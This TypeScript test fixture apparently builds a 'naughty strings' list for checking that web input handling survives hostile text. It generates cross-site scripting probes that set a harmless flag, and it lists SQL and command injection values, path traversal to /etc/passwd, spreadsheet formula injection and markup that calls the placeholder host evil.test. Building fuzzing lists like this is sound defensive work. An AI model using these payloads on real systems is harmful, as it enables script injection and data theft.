/** What a payload would do if it ran: tests look whether somebody has called it. */
export const ALARM = '__x'
const call = `window.${ALARM}=1`

const tags = 'img svg video audio iframe details body input marquee object embed math form button a style'.split(' ')
const handlers =
  'onerror onload onclick onmouseover onfocus ontoggle onanimationend onpointerenter onwheel oncut onbegin onpageshow onkeyup ondblclick onscroll onmousemove onhashchange ontransitionend'.split(
    ' ',
  )
const quotes = ['', '"', "'", '`', '-->', '</textarea>', '</title>', '</script>', ']]>', '\\"']
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
  '//evil.test/',
]
const templates = ['{{?}}', '${?}', '<%= ? %>', '#{?}', '[[?]]', '{%?%}', '@(?)', '*{?}', '~{?}', '{{{?}}}']
const words = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  'true',
  '[object Object]',
  'Infinity',
  '1e1000',
  '-0',
  '0x1F',
  "Robert'); DROP TABLE comments;--",
  "' OR '1'='1",
  '../../../etc/passwd',
  '%2e%2e%2f',
  '%00',
  '$(touch x)',
  '`id`',
  '%s%s%s%n',
  '<!--',
  '<![CDATA[',
  '&lt;script&gt;',
  '&#x3c;b&#x3e;',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0;//evil.test>',
  "<style>@import'//evil.test'</style>",
  '<link rel=prefetch href=//evil.test>',
  '<form id=body>',
  '<img name=getElementById>',
  '![x](https://evil.test/p)',
  '[x](javascript:alert(1))',
  '<https://evil.test>',
  '@everyone',
  '=HYPERLINK("http://evil.test?"&A1)',
  "=cmd|'/C calc'!A0",
  '+1;=1',
  '@SUM(1+1)',
  '-2+3',
]
const signs = [
  '\u202Egnp.exe',
  '\u2066isolated\u2069',
  '\u200B\u200C\u200D\uFEFFzero width',
  'Z\u0363\u0364a\u0345l\u0360g\u0338o'.repeat(20),
  `e${'\u0301'.repeat(500)}`,
  '\uD800 lone',
  'lone \uDFFF',
  '\u0001\u0007\u001B[31mred',
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳',
  'مرحبا بالعالم',
  'שלום עולם',
  '田中さんにあげて下さい',
  'Ω≈ç√∫˜µ≤≥÷',
  'ﷺ'.repeat(50),
  'İıŞş ÅÅ ﬁ ß',
  '１２３＝ＳＵＭ',
  'x'.repeat(100_000),
  'W'.repeat(500),
  '\n\n\n\n\n\n\n\n\n\nlast',
  '\t\tindented',
]

/** Texts that have broken somebody's page: markup, templates, addresses, key names, signs that move or hide others. */
export const naughtyStrings: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} src=x ${handler}="${call}">`)),
  ...quotes.flatMap((quote) => [
    `${quote}><script>${call}</script>`,
    `${quote} onmouseover=${call} x=${quote}`,
    `${quote}><svg/onload=${call}>`,
    `${quote}><iframe srcdoc="<script>parent.${ALARM}=1</script>">`,
  ]),
  ...schemes.flatMap((scheme) => [
    `${scheme}${call}`,
    `<a href="${scheme}${call}">x</a>`,
    `[x](${scheme}${call})`,
    `<form action="${scheme}${call}"><button>x</button></form>`,
    `<iframe src="${scheme}${call}">`,
  ]),
  ...templates.flatMap((form) => [form.replace('?', call), form.replace('?', "constructor.constructor('x')()")]),
  ...tags.slice(0, 8).flatMap((tag) => quotes.map((quote) => `${quote}<${tag}/${handlers[0]}=${call}//`)),
  ...words,
  ...signs,
]
